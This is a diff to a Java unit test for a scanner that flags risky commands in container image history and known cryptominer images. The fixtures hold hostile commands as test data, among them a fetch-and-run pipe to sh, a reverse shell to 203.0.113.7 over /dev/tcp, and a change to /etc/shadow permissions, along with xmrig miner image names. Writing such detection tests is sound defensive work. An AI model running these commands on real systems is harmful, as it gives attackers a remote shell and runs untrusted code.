@@ -89,13 +89,24 @@ class CommandRulesTest {
                         "RUN wget -qO- a.example | sh",
                         "RUN apt-get clean && rm -rf /tmp/x /var/log/*",
                         "RUN curl -o /opt/t http://a.example/t && chmod +x /opt/t",
+                        "RUN debootstrap stable /rootfs && chroot /rootfs apt-get install -y app",
+                        "RUN chmod 640 /etc/shadow",
+                        "WORKDIR /proc/self/fd/8",
                         "RUN bash -i >& /dev/tcp/203.0.113.7/443 0>&1")
                 .map(run -> new Text("app:7", "history", run, at("image.json", "/h"), Origin.IMAGE, Optional.empty()))
                 .toList();
 
         assertThat(CommandRules.findings(List.of(), List.of(), layers).findings())
-                .extracting(f -> f.rule().id() + " " + f.severity().word())
-                .containsExactlyInAnyOrder("CMD-001 medium", "CMD-008 low", "CMD-009 low", "CMD-003 critical");
+                .extracting(f -> f.rule().id().substring(4) + " " + f.severity().word())
+                .containsExactlyInAnyOrder(
+                        "001 medium",
+                        "003 critical",
+                        "006 medium",
+                        "006 critical",
+                        "008 low",
+                        "009 low",
+                        "010 medium",
+                        "011 low");
     }
 
     @Test
@@ -106,6 +117,9 @@ class CommandRulesTest {
                     assertThat(f.rule().id()).isEqualTo("CMD-004");
                     assertThat(f.because()).isEqualTo("image: docker.io/miningcontainers/xmrig:6.22");
                 });
+        for (String image : List.of("bitnn/alpine-xmrig", "a/monero_cpu_minergate:7", "a/xmrig-auto")) {
+            assertThat(ids(of(Places.of(image)))).as(image).containsExactly("CMD-004");
+        }
         assertThat(ids(of(Places.of("traffmonetizer/cli_v2")))).containsExactly("CMD-012");
         assertThat(ids(of(Places.of("sourcepole/t-rex")))).isEmpty();
         assertThat(ids(of(Places.of("registry.example/shop/checkout:7")))).isEmpty();
